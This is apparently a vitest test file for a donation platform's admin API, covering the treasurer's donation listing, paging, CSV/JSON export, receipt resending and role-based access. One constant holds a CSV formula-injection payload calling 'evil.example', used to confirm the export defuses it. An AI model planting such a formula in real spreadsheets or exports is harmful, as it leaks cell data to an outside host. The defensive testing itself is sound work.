/**
 * The treasurer's donations: `listCampaignDonations` (paged, newest first), `exportCampaignDonations`
 * (CSV or JSON) and `resendDonationReceipt`, with who may read them and what they show of a donor.
 */
import { randomUUID } from 'node:crypto';
import type { components } from '@mahjar/sdk';
import { beforeAll, describe, expect, it } from 'vitest';
import { bearer, invite, json, signIn } from './admin-sign-in.js';
import { ALLOWED_ORIGIN, forEachApiEngine } from './harness.js';

type AdminDonation = components['schemas']['AdminDonation'];
type AdminDonationPage = components['schemas']['AdminDonationPage'];
type DonationExport = components['schemas']['DonationExport'];
type Donation = components['schemas']['Donation'];

const OWNER = { 'Mahjar-Secret-Key': 'sk_demo_ilma-usa' };
const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

forEachApiEngine('donation ledger', (env) => {
  const slug = `ledger-${randomUUID().slice(0, 8)}`;
  const as: Record<string, Record<string, string>> = {};
  /** The donations made below, oldest first. */
  const made: Donation[] = [];

  async function donate(over: Record<string, unknown>, outcome?: 'succeeded' | 'failed') {
    const response = await env().fetch(`/v1/campaigns/${slug}/donations`, {
      ...json(
        {
          amount: 2500,
          currency: 'USD',
          donorEmail: `donor-${randomUUID().slice(0, 8)}@example.net`,
          returnUrl: `${ALLOWED_ORIGIN}/thanks`,
          ...over,
        },
        { 'Mahjar-Publishable-Key': 'pk_demo_ilma-usa', 'Idempotency-Key': randomUUID(), 'Accept-Language': 'fr' },
      ),
    });
    expect(response.status, await response.clone().text()).toBe(201);
    const donation = (await response.json()) as Donation;
    if (outcome) {
      const session = new URL(donation.checkoutUrl!).pathname.split('/').at(-1)!;
      const done = await env().fetch(`/v1/payments/sandbox/checkout/${session}/complete`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ outcome }).toString(),
        redirect: 'manual',
      });
      expect(done.status).toBe(303);
    }
    made.push(donation);
    return donation;
  }

  const list = (headers: Record<string, string>, query = '') =>
    env().fetch(`/v1/admin/campaigns/${slug}/donations${query}`, { headers });

  beforeAll(async () => {
    const created = await env().fetch(
      '/v1/admin/campaigns',
      json(
        {
          slug,
          title: { en: 'Ledger test' },
          summary: { en: 'Donations for the treasurer’s tests.' },
          goalAmount: 1_000_000,
          currency: 'USD',
          priorityArea: 'mental-health',
          startsOn: '2020-01-01',
          checkoutMode: 'hosted',
          status: 'active',
        },
        { ...OWNER, 'Idempotency-Key': randomUUID() },
      ),
    );
    expect(created.status, await created.clone().text()).toBe(201);
    for (const role of ['treasurer', 'editor', 'viewer', 'reviewer'] as const) {
      const email = `ledger-${role}-${randomUUID().slice(0, 8)}@ilma-usa.example.org`;
      await invite(env(), OWNER, email, role);
      as[role] = bearer(await signIn(env(), email, 'ilma-usa'));
    }
    await donate({ donorName: 'Rania Haddad', amount: 5000 }, 'succeeded');
    await donate({ donorName: HOSTILE, dedication: 'In memory, "with love", of my father' }, 'succeeded');
    await donate({ anonymous: true, donorName: 'Would Rather Not' }, 'succeeded');
    await donate({ donorName: 'Karim Saleh' }, 'failed');
    await donate({ donorName: 'Nadia Fares', amount: 10000 });
  }, 120_000);

  it('lists every donation for a treasurer, newest first, with the donor as the donor allowed', async () => {
    const response = await list(as.treasurer!);
    expect(response.status).toBe(200);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const page = (await response.json()) as AdminDonationPage;
    expect(page.nextCursor).toBeNull();
    expect(page.items.map((d) => d.id)).toEqual(made.map((d) => d.id).reverse());
    const byName = (name: string) => page.items.find((d) => d.donorName === name)!;
    expect(byName('Rania Haddad')).toMatchObject({
      amount: 5000,
      currency: 'USD',
      frequency: 'one_off',
      renewalOf: null,
      status: 'succeeded',
      anonymous: false,
      campaignSlug: slug,
      receiptNumber: expect.stringMatching(/^ILMA-USA-\d{4}-\d{6}$/),
    });
    expect(byName('Rania Haddad').donorEmail).toMatch(/^donor-.*@example\.net$/);
    expect(byName('Karim Saleh')).toMatchObject({ status: 'failed', receiptNumber: null });
    expect(byName('Nadia Fares')).toMatchObject({ status: 'pending', amount: 10000 });
    // An anonymous donor's name is not shown, even to the treasurer; the receipt's address is.
    const anonymous = page.items.find((d) => d.anonymous)!;
    expect(anonymous).toMatchObject({ donorName: null, status: 'succeeded' });
    expect(anonymous.donorEmail).toContain('@example.net');
    expect(JSON.stringify(page)).not.toContain('Would Rather Not');
    expect(JSON.stringify(page)).not.toMatch(/cs_sandbox_/);
  });

  it('pages with a cursor, without gaps or repeats', async () => {
    const seen: string[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const response = await list(as.treasurer!, `?limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      expect(response.status).toBe(200);
      const page = (await response.json()) as AdminDonationPage;
      expect(page.items.length).toBeLessThanOrEqual(2);
      seen.push(...page.items.map((d) => d.id));
      cursor = page.nextCursor;
      pages += 1;
    } while (cursor && pages < 10);
    expect(pages).toBe(3);
    expect(seen).toEqual(made.map((d) => d.id).reverse());
    expect((await list(as.treasurer!, '?cursor=not-a-cursor')).status).toBe(400);
  });

  it('exports CSV with one row per donation, the hostile name defused and quoted', async () => {
    const response = await env().fetch(`/v1/admin/campaigns/${slug}/donations/export`, { headers: as.treasurer! });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('content-disposition')).toMatch(
      new RegExp(`^attachment; filename="donations-${slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
    );
    const csv = await response.text();
    const lines = csv.split('\r\n');
    expect(lines.at(-1)).toBe('');
    expect(lines[0]).toBe(
      'id,campaignSlug,amount,currency,frequency,renewalOf,status,anonymous,donorName,donorEmail,dedication,receiptNumber,createdAt,updatedAt',
    );
    expect(lines).toHaveLength(made.length + 2);
    // The formula is prefixed with a quote, and its own quotes doubled inside a quoted cell.
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",`);
    expect(csv).not.toMatch(/,=HYPERLINK/);
    expect(csv).toContain(',"In memory, ""with love"", of my father",');
    expect(csv).not.toContain('Would Rather Not');
    const rania = lines.find((line) => line.includes('Rania Haddad'))!.split(',');
    expect(rania.slice(1, 9)).toEqual([slug, '5000', 'USD', 'one_off', '', 'succeeded', 'false', 'Rania Haddad']);
  });

  it('exports the same rows as JSON', async () => {
    const response = await env().fetch(`/v1/admin/campaigns/${slug}/donations/export?format=json`, {
      headers: as.treasurer!,
    });
    expect(response.status).toBe(200);
    const body = (await response.json()) as DonationExport;
    expect(body.campaignSlug).toBe(slug);
    const listed = ((await (await list(as.treasurer!)).json()) as AdminDonationPage).items;
    expect(body.items).toEqual(listed);
  });

  it('lets the owner read it too, by key', async () => {
    expect((await list(OWNER)).status).toBe(200);
  });

  it.each(['editor', 'viewer', 'reviewer'])('refuses a %s (403), with no donor in the answer', async (role) => {
    for (const path of [`/v1/admin/campaigns/${slug}/donations`, `/v1/admin/campaigns/${slug}/donations/export`]) {
      const response = await env().fetch(path, { headers: as[role]! });
      expect(response.status).toBe(403);
      const text = await response.text();
      expect(text).toContain('/problems/forbidden');
      expect(text).not.toContain('example.net');
    }
  });

  it('answers 404 to another chapter’s treasurer, as for a campaign that does not exist', async () => {
    const email = `ledger-other-${randomUUID().slice(0, 8)}@alma-australia.example.org`;
    await invite(env(), { 'Mahjar-Secret-Key': 'sk_demo_alma-australia' }, email, 'treasurer');
    const other = bearer(await signIn(env(), email, 'alma-australia'));
    for (const path of [
      `/v1/admin/campaigns/${slug}/donations`,
      `/v1/admin/campaigns/${slug}/donations/export`,
      `/v1/admin/campaigns/no-such-campaign/donations`,
    ]) {
      const response = await env().fetch(path, { headers: path.includes('no-such') ? as.treasurer! : other });
      expect(response.status, path).toBe(404);
      expect(await response.text()).not.toContain('example.net');
    }
    const resend = await env().fetch(`/v1/admin/campaigns/${slug}/donations/${made[0]!.id}/receipt`, {
      method: 'POST',
      headers: { ...other, 'Idempotency-Key': randomUUID() },
    });
    expect(resend.status).toBe(404);
  });

  describe('resendDonationReceipt', () => {
    const resend = (id: string, headers = as.treasurer!) =>
      env().fetch(`/v1/admin/campaigns/${slug}/donations/${id}/receipt`, {
        method: 'POST',
        headers: { ...headers, 'Idempotency-Key': randomUUID() },
      });
    const receipts = (to: string) =>
      env()
        .db.selectFrom('outbox')
        .select(['subject', 'text', 'locale'])
        .where('kind', '=', 'donation_receipt')
        .where('to_address', '=', to)
        .execute();

    it('queues the receipt again, in the donor’s language, with the same number', async () => {
      const [first] = ((await (await list(as.treasurer!)).json()) as AdminDonationPage).items.filter(
        (d) => d.donorName === 'Rania Haddad',
      ) as [AdminDonation];
      expect(await receipts(first.donorEmail)).toHaveLength(1);
      const response = await resend(first.id);
      expect(response.status).toBe(202);
      expect(((await response.json()) as AdminDonation).id).toBe(first.id);
      const mails = await receipts(first.donorEmail);
      expect(mails).toHaveLength(2);
      expect(mails.map((m) => m.locale)).toEqual(['fr', 'fr']);
      expect(mails[1]!.text).toContain(first.receiptNumber!);
      // The router records the write under the path's first id, the campaign.
      const audit = await env()
        .db.selectFrom('audit_log')
        .select('target_id')
        .where('operation', '=', 'resendDonationReceipt')
        .where('target_id', '=', slug)
        .execute();
      expect(audit).toHaveLength(1);
    });

    it('refuses a donation without a receipt (409), another campaign’s donation (404), and an editor (403)', async () => {
      const failed = made.find((d) => d.donorName === 'Karim Saleh')!;
      expect((await resend(failed.id)).status).toBe(409);
      expect((await resend(randomUUID())).status).toBe(404);
      expect((await resend(made[0]!.id, as.editor!)).status).toBe(403);
    });
  });
});
